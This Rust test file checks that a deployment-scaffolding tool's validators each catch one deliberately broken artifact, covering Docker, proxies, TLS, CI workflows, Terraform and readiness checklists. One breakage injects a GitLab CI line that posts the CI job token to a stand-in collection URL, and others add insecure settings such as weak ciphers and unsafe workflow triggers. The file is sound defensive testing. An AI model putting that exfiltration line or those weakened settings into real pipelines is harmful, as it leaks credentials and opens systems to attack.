//! `scaffold verify` with the real validators, one breakage per check, and the readiness checklist.

use super::*;

#[test]
fn every_preset_passes_its_validators() {
    for preset in PRESETS {
        let p = Project::new();
        p.init(preset);
        let rows = verify(&p, 0);
        assert!(rows.iter().any(|r| r["outcome"] == "pass") || !support::in_ci(), "{preset}: nothing ran");
        let failed: Vec<_> = rows.iter().filter(|r| r["outcome"] == "fail").collect();
        assert!(failed.is_empty(), "{preset}: {failed:#?}");
    }
}

/// (preset, file to break, how, the tool that must catch it, a word of the check's artifact). The
/// preset may be followed by `--set` answers, space-separated, for an optional component's check.
type Breakage = (&'static str, &'static str, fn(String) -> String, &'static str, &'static str);

const BREAKAGES: &[Breakage] = &[
    // every preset
    (
        "nextjs-prisma",
        "docker-compose.prod.yml",
        |t| first(t, "services:", "services:\n  bad:\n    imagee: x"),
        "docker",
        "compose",
    ),
    ("express-typeorm", "docker-compose.prod.yml", |t| format!("{t}\nname: duplicate-key\n"), "yamllint", "YAML"),
    ("nextjs-prisma", "scripts/backup.sh", |t| format!("{t}\necho $1 `date`\n"), "shellcheck", "every shell script"),
    ("nextjs-prisma", "Dockerfile", |t| format!("{t}\nRUN apt-get install curl\n"), "hadolint", "Dockerfile"),
    ("nextjs-prisma", "Dockerfile", |t| format!("{t}\nUSER root\n"), "checkov", "Dockerfile"),
    ("go-service", ".dockerignore", |t| t.replace(".env\n", ""), "grep", "dockerignore"),
    (
        "nextjs-prisma",
        "redis/redis.conf",
        |t| first(t, "maxmemory-policy noeviction", "maxmemory-policy sometimes"),
        "redis-server",
        "redis",
    ),
    (
        "nextjs-prisma",
        "postgres/initdb/10-roles.sh",
        |t| first(t, "GRANT SELECT, INSERT, UPDATE, DELETE ON TABLES", "GRANT ALL ON TABLES"),
        "initdb",
        "least-privilege roles",
    ),
    ("nextjs-prisma", "redis/start.sh", |t| first(t, " -flushall", ""), "redis-server", "ACL users"),
    (
        "go-service components=[offsite] settings.offsite.bucket=ledger-dumps",
        "scripts/offsite-fetch.sh",
        |t| {
            first(
                t,
                r#"mv -- "$BACKUP_DIR/$1.partial" "$BACKUP_DIR/$1""#,
                r#"mv -- "$BACKUP_DIR/$1.partial" "$BACKUP_DIR/$1.x""#,
            )
        },
        "rclone",
        "restore drill",
    ),
    (
        "nextjs-prisma",
        "scripts/deploy.sh",
        |t| first(t, "printf '%s' \"$tag\" | grep -Eqx", "true || printf '%s' \"$tag\" | grep -Eqx"),
        "sh",
        "forced command",
    ),
    (
        "go-service",
        "docker-compose.prod.yml",
        |t| first(t, "- work_mem=", "- work_mem=lots"),
        "initdb",
        "server settings",
    ),
    ("go-service", "scripts/backup.sh", |t| first(t, "excess=$(($# - KEEP))", "excess=0"), "pg_dump", "backup"),
    (
        "express-typeorm",
        "scripts/restore.sh",
        |t| first(t, "--exit-on-error --single-transaction", "--exit-on-error --single-transaction --schema-only"),
        "pg_dump",
        "restore",
    ),
    (
        "nextjs-prisma",
        "monitoring/prometheus/rules/host.yml",
        |t| first(t, "expr: ", "expr: rate(( "),
        "promtool",
        "prometheus",
    ),
    (
        "express-typeorm",
        "monitoring/prometheus/rules/host.yml",
        |t| first(t, "expr: ", "expr: rate(( "),
        "trixie-run",
        "promtool 2.53",
    ),
    (
        "nextjs-prisma",
        "monitoring/alertmanager/alertmanager.yml",
        |t| first(t, "receiver: paging", "receiver: pagingg"),
        "amtool",
        "alertmanager",
    ),
    (
        "nextjs-prisma",
        "monitoring/blackbox/blackbox.yml",
        |t| first(t, "timeout:", "timeoutt:"),
        "prometheus-blackbox-exporter",
        "blackbox",
    ),
    (
        "go-service",
        "monitoring/prometheus/rules/host.yml",
        |t| first(t, "runbook_url: \"docs/runbooks/alerts.md#hostoutofmemory\"", "runbook_url: \"\""),
        "python3",
        "rule shape",
    ),
    (
        "nextjs-prisma",
        "monitoring/grafana/grafana.ini",
        |t| first(t, "allow_sign_up = false", "allow_sign_up = true"),
        "python3",
        "grafana",
    ),
    (
        "nextjs-prisma",
        "docs/runbooks/deploy.md",
        |t| format!("{t}\n#### Skipped a level  \n"),
        "markdownlint",
        "runbooks",
    ),
    (
        "express-typeorm",
        "docs/runbooks/deploy.md",
        |t| format!("{t}\nSee [the plan](no-such-file.md#nowhere).\n"),
        "python3",
        "relative links",
    ),
    (
        "go-service",
        "docs/runbooks/deploy.md",
        |t| format!("{t}\n```sh\ndocker compose -f docker-compose.prod.yml restart no-such-service\n```\n"),
        "python3",
        "real compose services",
    ),
    // nginx (nextjs-prisma)
    (
        "nextjs-prisma",
        "nginx/nginx.conf",
        |t| first(t, "server_tokens off;", "server_tokenz off;"),
        "nginx",
        "nginx -t",
    ),
    (
        "nextjs-prisma",
        "nginx/nginx.conf",
        |t| first(t, "server_tokens off;", "server_tokenz off;"),
        "trixie-run",
        "nginx 1.26",
    ),
    (
        "nextjs-prisma",
        "nginx/snippets/tls.conf",
        |t| first(t, "ssl_ciphers ", "ssl_ciphers ECDHE-ECDSA-AES128-SHA:"),
        "sslyze",
        "nginx",
    ),
    (
        "nextjs-prisma",
        "nginx/snippets/security-headers.conf",
        |t| t.replace("\" always;", "\";"),
        "curl",
        "live behaviour",
    ),
    // GitHub Actions (nextjs-prisma)
    ("nextjs-prisma", ".github/workflows/ci.yml", |t| first(t, "runs-on:", "runs-onn:"), "actionlint", "workflows"),
    (
        "nextjs-prisma",
        ".github/workflows/ci.yml",
        |t| first(t, "  pull_request:\n", "  pull_requestt:\n"),
        "check-jsonschema",
        "workflows",
    ),
    (
        "nextjs-prisma",
        ".github/workflows/ci.yml",
        |t| first(t, "  pull_request:\n", "  pull_request:\n  pull_request_target:\n"),
        "zizmor",
        ".github",
    ),
    (
        "nextjs-prisma",
        ".github/workflows/ci.yml",
        |t| {
            first(
                t,
                "    timeout-minutes",
                "    env:\n      ACTIONS_ALLOW_UNSECURE_COMMANDS: \"true\"\n    timeout-minutes",
            )
        },
        "checkov",
        "workflows",
    ),
    // Traefik and GitLab CI (express-typeorm)
    (
        "express-typeorm",
        "traefik/dynamic/middlewares.yml",
        |t| first(t, "stsSeconds:", "stsSecondz:"),
        "traefik",
        "traefik",
    ),
    (
        "express-typeorm",
        "traefik/dynamic/tls.yml",
        |t| first(t, "cipherSuites:\n", "cipherSuites:\n        - TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA\n"),
        "sslyze",
        "traefik",
    ),
    // Grafana's allowlist dropped at each proxy: an address outside it reaches Grafana.
    (
        "go-service proxy=nginx monitoring.grafana.allow=[203.0.113.0/24]",
        "nginx/sites/app.conf",
        |t| first(t, "allow 203.0.113.0/24;\n        deny all;\n", "allow 203.0.113.0/24;\n"),
        "curl",
        "nginx",
    ),
    (
        "express-typeorm monitoring.grafana.allow=[203.0.113.0/24]",
        "traefik/dynamic/routers.yml",
        |t| first(t, "middlewares: [grafana-allow]", "middlewares: []"),
        "curl",
        "traefik",
    ),
    (
        "go-service monitoring.grafana.allow=[203.0.113.0/24]",
        "caddy/Caddyfile",
        |t| first(t, "respond @grafana_outside 403", "respond @grafana_outside 200"),
        "curl",
        "caddy",
    ),
    // The streaming route gone: /events falls to the app's route, whose body limit buffers.
    (
        "express-typeorm",
        "docker-compose.prod.yml",
        |t| {
            first(
                t,
                "traefik.http.routers.api-stream-1.rule: \"",
                "traefik.http.routers.api-stream-1.rule: \"Path(`/none`) && ",
            )
        },
        "curl",
        "traefik",
    ),
    (
        "express-typeorm",
        ".gitlab-ci.yml",
        |t| first(t, "when: on_failure", "when: sometimes"),
        "check-jsonschema",
        "gitlab",
    ),
    (
        "express-typeorm",
        ".gitlab-ci.yml",
        |t| first(t, "  before_script:\n", "  before_script:\n    - echo $(cat /etc/hostname)\n"),
        "shellcheck",
        "gitlab",
    ),
    (
        "express-typeorm",
        ".gitlab-ci.yml",
        |t| first(t, "  script:\n", "  script:\n    - curl -d \"$CI_JOB_TOKEN\" https://example.com/collect\n"),
        "checkov",
        ".gitlab-ci.yml",
    ),
    // Caddy and Terraform (go-service)
    ("go-service", "caddy/Caddyfile", |t| first(t, "protocols h1 h2", "protocolz h1 h2"), "caddy", "Caddyfile"),
    (
        "go-service",
        "caddy/Caddyfile",
        |t| first(t, "protocols tls1.3", "protocols tls1.2 tls1.3"),
        "sslyze",
        "Caddyfile",
    ),
    (
        "go-service",
        "infra/terraform/modules/database/main.tf",
        |t| first(t, "storage_encrypted     = true", "storage_encrypted = true"),
        "terraform",
        "formatting",
    ),
    (
        "go-service",
        "infra/terraform/modules/database/main.tf",
        |t| first(t, "storage_encrypted     = true", "storage_encrypted     = \"lots\""),
        "terraform",
        "validate",
    ),
    (
        "go-service",
        "infra/terraform/modules/database/main.tf",
        |t| first(t, "storage_encrypted     = true", "storage_encrypted     = false"),
        "checkov",
        "checkov",
    ),
];

#[test]
fn each_validator_catches_a_broken_artifact() {
    let mut missed = Vec::new();
    for (preset, file, breaks, tool, artifact) in BREAKAGES {
        let p = Project::new();
        let mut words = preset.split(' ');
        let mut args = vec!["init", "--preset", words.next().unwrap(), "--yes"];
        args.extend(words.flat_map(|set| ["--set", set]));
        p.run(&args).ok();
        p.edit(file, breaks);
        // Only the one check meant (by its id), not every check of its tool.
        let list = p.run(&["verify", "--list"]).ok().stdout;
        let id = list
            .lines()
            .skip(1)
            .find_map(|l| {
                let mut words = l.split_whitespace();
                let (id, t) = (words.next()?, words.next()?);
                (t == *tool && words.collect::<Vec<_>>().join(" ").contains(artifact)).then_some(id)
            })
            .unwrap_or_else(|| panic!("no `{tool}` check on `{artifact}` in {preset}: {list}"));
        let run = p.run(&["verify", "--json", "--only", id]);
        let rows = json_list(&run.stdout, "checks");
        let [row] = rows.as_slice() else { panic!("`--only {id}` ran {} checks: {rows:#?}", rows.len()) };
        if row["outcome"] == "skipped" && !support::in_ci() {
            eprintln!("skipped: {tool} is not installed ({})", row["message"]);
            continue;
        }
        if row["outcome"] != "fail" || row["message"].as_str().unwrap_or("").is_empty() || run.code != 1 {
            missed.push(format!("{preset}: `{tool}` ({artifact}) did not catch a broken `{file}`: {row}"));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

/// A check is a manifest entry and a script: the catalog refuses either without the other, and a
/// dependency `templates/verify/needs.yaml` cannot tell how to install.
#[test]
fn a_check_without_its_script_or_a_script_without_its_check_is_refused() {
    let grep = "  - {artifact: x, tool: grep}\n";
    let cases: [(&str, &[&str], &str); 3] = [
        (grep, &[], "check `demo/grep` has no script `checks/grep.sh`"),
        (grep, &["grep.sh", "sed.sh"], "`checks/sed.sh` is the script of no check"),
        (
            "  - {artifact: x, tool: grep, needs: [python3:nope]}\n",
            &["grep.sh"],
            "needs `python3:nope`, which `templates/verify/needs.yaml` does not know",
        ),
    ];
    for (checks, scripts, error) in cases {
        let templates = tempfile::tempdir().unwrap();
        let comp = templates.path().join("demo");
        std::fs::create_dir_all(comp.join("checks")).unwrap();
        std::fs::write(comp.join("component.yaml"), format!("id: demo\nsummary: d\nwhen: \"true\"\nverify:\n{checks}"))
            .unwrap();
        for script in scripts {
            std::fs::write(comp.join("checks").join(script), "true\n").unwrap();
        }
        let p = Project::new();
        with_templates(&p, templates.path())(&MINIMAL_INIT).code(2).stderr_has("template error").stderr_has(error);
        assert!(!p.dir().exists(), "nothing is written");
    }
}

#[test]
fn a_hung_validator_is_killed_and_reported() {
    let templates = tempfile::tempdir().unwrap();
    let comp = templates.path().join("slow");
    std::fs::create_dir_all(&comp).unwrap();
    std::fs::write(
        comp.join("component.yaml"),
        "id: slow\nsummary: hangs\nwhen: \"true\"\nverify:\n  - {artifact: x, tool: sleep}\n",
    )
    .unwrap();
    std::fs::create_dir_all(comp.join("checks")).unwrap();
    std::fs::write(comp.join("checks/sleep.sh"), "sleep 600 & sleep 600\n").unwrap();
    std::fs::write(comp.join("x.txt"), "x\n").unwrap();
    let p = Project::new();
    let scaffold = with_templates(&p, templates.path());
    scaffold(&MINIMAL_INIT).ok();
    let start = std::time::Instant::now();
    let run = scaffold(&["verify", "--timeout", "1"]).code(1).stdout_has("killed after 1s");
    assert!(start.elapsed().as_secs() < 30, "{}", run.stdout);
}

/// An activated virtualenv puts a `python3` without PyYAML first on `PATH`: the checks that
/// import it are skipped as a missing dependency with its install hint (a failure with
/// `--strict`), never a traceback; the checks that need only the standard library still run.
#[test]
fn a_python3_without_pyyaml_first_on_path_is_a_missing_dependency() {
    if !support::require_tool("python3") {
        return;
    }
    let venv = tempfile::tempdir().unwrap();
    let made = std::process::Command::new("python3").args(["-m", "venv", "--without-pip"]).arg(venv.path()).status();
    assert!(made.unwrap().success(), "python3 -m venv");
    let lacks = std::process::Command::new(venv.path().join("bin/python3")).args(["-c", "import yaml"]).output();
    assert!(!lacks.unwrap().status.success(), "the bare virtualenv imports yaml");
    let path = format!("{}:{}", venv.path().join("bin").display(), std::env::var("PATH").unwrap());
    let p = Project::new();
    p.init("nextjs-prisma");
    let args = ["verify", "--json", "--only", "runbooks/commands", "--only", "runbooks/links"];
    let run = p.run_env(&args, &[("PATH", &path)]).ok();
    assert!(!run.stdout.contains("Traceback") && !run.stdout.contains("ModuleNotFoundError"), "{}", run.stdout);
    let json: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let row = |id: &str| json["checks"].as_array().unwrap().iter().find(|r| r["id"] == id).unwrap().clone();
    let commands = row("runbooks/commands");
    assert_eq!(commands["outcome"], "skipped", "{commands}");
    let message = commands["message"].as_str().unwrap();
    assert!(message.starts_with("missing dependency `python3:yaml`") && message.contains("PyYAML"), "{message}");
    assert_eq!(row("runbooks/links")["outcome"], "pass", "the standard library is enough for the links");
    p.run_env(&["verify", "--strict", "--only", "runbooks/commands"], &[("PATH", &path)])
        .code(1)
        .stdout_has("missing dependency `python3:yaml`")
        .stderr_has("miss their tool or a dependency");
}

#[test]
fn checklist_per_preset_matches_its_snapshot() {
    for preset in PRESETS {
        let p = Project::new();
        p.init(preset);
        let out = p.run(&["checklist"]).ok().stdout;
        assert_snapshot(&format!("checklist/{preset}.txt"), &out);
    }
}

#[test]
fn enabling_a_component_flips_its_checklist_items_to_covered() {
    let status = |p: &Project, id: &str| -> String {
        let rows = json_list(&p.run(&["checklist", "--json"]).ok().stdout, "items");
        rows.iter().find(|r| r["id"] == id).map(|r| r["status"].as_str().unwrap().to_owned()).unwrap()
    };
    let p = Project::new();
    p.run(&["init", "--preset", "express-typeorm", "--set", "monitoring.enabled=false", "--yes"]).ok();
    assert_eq!(status(&p, "metrics-and-alerts"), "manual");
    p.run(&["update", "--set", "monitoring.enabled=true", "--yes"]).ok();
    assert_eq!(status(&p, "metrics-and-alerts"), "covered");
    assert_eq!(status(&p, "error-tracking"), "manual");
    p.run(&["add", "sentry", "--yes"]).ok();
    assert_eq!(status(&p, "error-tracking"), "covered");
    assert_eq!(status(&p, "offsite-backups"), "partly");
    p.run(&["add", "offsite", "--set", "settings.offsite.bucket=tasks-backups", "--yes"]).ok();
    // Covered once the team's bucket key is in place (scaffold never invents it).
    assert_eq!(status(&p, "offsite-backups"), "partly");
    p.write("secrets/offsite_access_key_id", "AKIAEXAMPLE\n");
    p.write("secrets/offsite_secret_access_key", "example\n");
    assert_eq!(status(&p, "offsite-backups"), "covered");
    p.run(&["checklist", "--require", "low"]).code(1).stderr_has("neither covered").stderr_has("`privacy-compliance`");
    p.run(&["checklist", "--markdown"]).ok();
    let doc = p.read("PRODUCTION_READINESS.md");
    assert!(doc.contains("- [x] **Metrics (Prometheus) and alerts"), "{doc}");
}

/// The presets scan nginx and Traefik with the intermediate profile and Caddy with modern; the
/// other profile of each proxy is scanned live here (sslyze, ECDSA test certificate, 127.0.0.1).
#[test]
fn each_proxy_passes_the_other_mozilla_profile_live() {
    for (proxy, profile) in [("nginx", "modern"), ("traefik", "modern"), ("caddy", "intermediate")] {
        let p = Project::new();
        let sets = [format!("proxy={proxy}"), format!("tls.profile={profile}")];
        p.run(&["init", "--preset", "nextjs-prisma", "--set", &sets[0], "--set", &sets[1], "--yes"]).ok();
        let Some(row) = verify_only_row(&p, "sslyze", &format!("{proxy}/{profile}")) else { continue };
        assert_eq!(row["outcome"], "pass", "{proxy} with the {profile} profile: {row}");
    }
}

/// Every optional component at once, on every preset, through every validator.
#[test]
fn every_preset_with_every_optional_component_passes_its_validators() {
    let all = format!("components=[{}]", optional_components().join(","));
    let required: Vec<String> = optional_components().iter().flat_map(|id| required_settings(id)).collect();
    for preset in PRESETS {
        let p = Project::new();
        let mut args = vec!["init", "--preset", preset, "--set", &all, "--yes"];
        args.extend(required.iter().map(String::as_str));
        p.run(&args).ok();
        let rows = verify(&p, 0);
        let failed: Vec<_> = rows.iter().filter(|r| r["outcome"] == "fail").collect();
        assert!(failed.is_empty(), "{preset} with {all}: {failed:#?}");
    }
}

#[test]
fn verify_lists_its_checks_by_id_and_suggests_a_misspelt_tool_or_id() {
    let p = Project::new();
    p.run(&["init", "--preset", "go-service", "--yes", "--set", "proxy=nginx"]).ok();
    let list =
        p.run(&["verify", "--list"]).ok().stdout_has("WebSocket past 60 s) (slow)").stdout_lacks("passed").stdout;
    let ids: Vec<&str> = list.lines().skip(1).filter_map(|l| l.split_whitespace().next()).collect();
    assert!(ids.contains(&"docker/hadolint") && ids.contains(&"terraform-aws/fmt"), "{list}");
    let unique: std::collections::BTreeSet<&str> = ids.iter().copied().collect();
    assert_eq!(unique.len(), ids.len(), "a check id is listed twice: {list}");
    // One check by its id: the same id in the JSON.
    let rows = json_list(&p.run(&["verify", "--json", "--only", "terraform-aws/fmt"]).stdout, "checks");
    let ran: Vec<&str> = rows.iter().filter_map(|r| r["id"].as_str()).collect();
    assert_eq!(ran, ["terraform-aws/fmt"]);
    p.run(&["verify", "--only", "ngnix"])
        .code(2)
        .one_error_line()
        .stderr_has("no check of this project uses `ngnix`; did you mean `nginx`?")
        .stderr_has("`scaffold verify --list`");
    p.run(&["verify", "--only", "terraform-aws/fnt"])
        .code(2)
        .one_error_line()
        .stderr_has("did you mean `terraform-aws/fmt`?");
}

/// The off-site copy works only with the team's bucket key: scaffold never invents one, and the
/// checklist does not call backups off-site until both halves are filled in.
#[test]
fn off_site_backups_are_covered_only_once_the_bucket_key_is_filled_in() {
    let p = Project::new();
    p.run(&[
        "init",
        "--preset",
        "nextjs-prisma",
        "--set",
        "components=[offsite]",
        "--set",
        "settings.offsite.bucket=shop-dumps",
        "--yes",
    ])
    .ok()
    .stdout_has("in `secrets/offsite_access_key_id`");
    assert!(!p.exists("secrets/offsite_access_key_id") && !p.exists("secrets/offsite_secret_access_key"));
    let offsite = |p: &Project| {
        let rows = json_list(&p.run(&["checklist", "--json"]).ok().stdout, "items");
        rows.into_iter().find(|r| r["id"] == "offsite-backups").expect("the offsite-backups item")
    };
    let row = offsite(&p);
    assert_eq!(row["status"], "partly", "{row}");
    assert!(row.to_string().contains("`secrets/offsite_secret_access_key` is not filled in"), "{row}");
    p.write("secrets/offsite_access_key_id", "AKIAEXAMPLEEXAMPLE\n");
    assert_eq!(offsite(&p)["status"], "partly");
    p.write("secrets/offsite_secret_access_key", "example/secret/key\n");
    assert_eq!(offsite(&p)["status"], "covered");
}

/// `YYYY-MM-DD` of the day `days_ago` days before today (UTC).
fn day(days_ago: i64) -> String {
    let out = std::process::Command::new("date")
        .args(["-u", "-d", &format!("{days_ago} days ago"), "+%F"])
        .output()
        .expect("date runs");
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

/// Manual items are acknowledged in `scaffold.yaml` (who, when, where the record is), so that
/// `checklist --require critical` can pass; a recurring one runs out; a bad one is one field error.
#[test]
fn manual_checklist_items_are_acknowledged_with_who_when_and_evidence() {
    let p = Project::new();
    p.init("nextjs-prisma");
    p.run(&["checklist", "--require", "critical"])
        .code(1)
        .stderr_has("`restore-tested`")
        .stderr_has("`alert-delivery`");
    let answers = p.read("scaffold.yaml");
    let ack = |drill: &str| {
        format!(
            "{answers}acknowledged:\n  - id: restore-tested\n    by: Jane Doe <jane@example.com>\n    date: {drill}\n    \
             evidence: https://tickets.example.com/OPS-42\n  - id: alert-delivery\n    by: on-call rota\n    \
             date: {}\n    evidence: docs/runbooks/on-call.md (test page received)\n",
            day(3)
        )
    };
    p.write("scaffold.yaml", &ack(&day(10)));
    let out = p.run(&["checklist", "--require", "critical"]).ok().stdout;
    assert!(out.contains("[a] backups-dr"), "{out}");
    assert!(out.contains(&format!(
        "acknowledged by Jane Doe <jane@example.com> on {}: https://tickets.example.com/OPS-42",
        day(10)
    )));
    assert!(out.find("critical (").unwrap() < out.find("high (").unwrap(), "grouped by severity:\n{out}");
    let rows = json_list(&p.run(&["checklist", "--json"]).ok().stdout, "items");
    assert!(rows.iter().any(|r| r["id"] == "restore-tested" && r["status"] == "acknowledged"));
    // A quarterly drill done half a year ago is due again.
    p.write("scaffold.yaml", &ack(&day(200)));
    p.run(&["checklist", "--require", "critical"]).code(1).stderr_has("`restore-tested`");
    p.run(&["checklist"]).ok().stdout_has("days ago: do it again");
    // Bad acknowledgments: one error naming the field; nothing written.
    let before = p.tree();
    for (bad, wants) in [
        (
            ack(&day(10)).replace("id: restore-tested", "id: restore-testd"),
            ["`acknowledged[0].id`", "did you mean `restore-tested`?"],
        ),
        (ack(&day(-30)), ["`acknowledged[0].date`", "is in the future"]),
        (ack("2026-02-30"), ["acknowledged[0].date", "not a valid date"]),
        (ack(&day(10)).replace("by: on-call rota", "by: \"\""), ["`acknowledged[1].by`", "missing"]),
    ] {
        p.write("scaffold.yaml", &bad);
        let mut run = p.run(&["checklist"]).code(2).one_error_line();
        for want in wants {
            run = run.stderr_has(want);
        }
        p.run(&["update", "--yes"]).code(2);
    }
    p.write("scaffold.yaml", &ack(&day(200)));
    assert_eq!(before, p.tree(), "a refused acknowledgment wrote something");
}

/// With `monitoring.grafana.allow` and single sign-on answered, each proxy refuses Grafana to an
/// address outside the list with 403 and serves it, login rate limit included, to one inside (the
/// live edge check adds both to its private loopback), and the password form is off.
#[test]
fn grafana_is_refused_outside_its_allowlist_at_every_proxy_and_sso_closes_the_password_form() {
    let sso = [
        "monitoring.grafana.allow=[203.0.113.0/24, 2001:db8::/32]",
        "monitoring.grafana.sso.name=Example ID",
        "monitoring.grafana.sso.client_id=grafana-prod",
        "monitoring.grafana.sso.auth_url=https://id.example.com/oauth2/authorize",
        "monitoring.grafana.sso.token_url=https://id.example.com/oauth2/token",
        "monitoring.grafana.sso.api_url=https://id.example.com/oauth2/userinfo",
        "monitoring.grafana.sso.allowed_domains=[example.com]",
    ];
    for proxy in ["nginx", "traefik", "caddy"] {
        let p = Project::new();
        let choice = format!("proxy={proxy}");
        let mut args = vec!["init", "--preset", "go-service", "--yes", "--set", &choice];
        args.extend(sso.iter().flat_map(|s| ["--set", *s]));
        p.run(&args).ok().stdout_has("secrets/grafana_oauth_client_secret");
        let ini = p.read("monitoring/grafana/grafana.ini");
        assert!(ini.contains("disable_login_form = true") && ini.contains("client_id = grafana-prod"), "{ini}");
        let edge = format!("{proxy}/curl");
        let run = p.run(&verify_args(&["--only", &edge, "--only", "monitoring/grafana"]));
        let rows = json_list(&run.stdout, "checks");
        assert_eq!(rows.len(), 2, "{rows:#?}");
        for row in &rows {
            // Skipped only on a laptop without the tool; in CI (`--strict`) everything runs.
            let skipped = row["outcome"] == "skipped" && !support::in_ci();
            assert!(row["outcome"] == "pass" || skipped, "{proxy}: {row:#}");
        }
    }
}
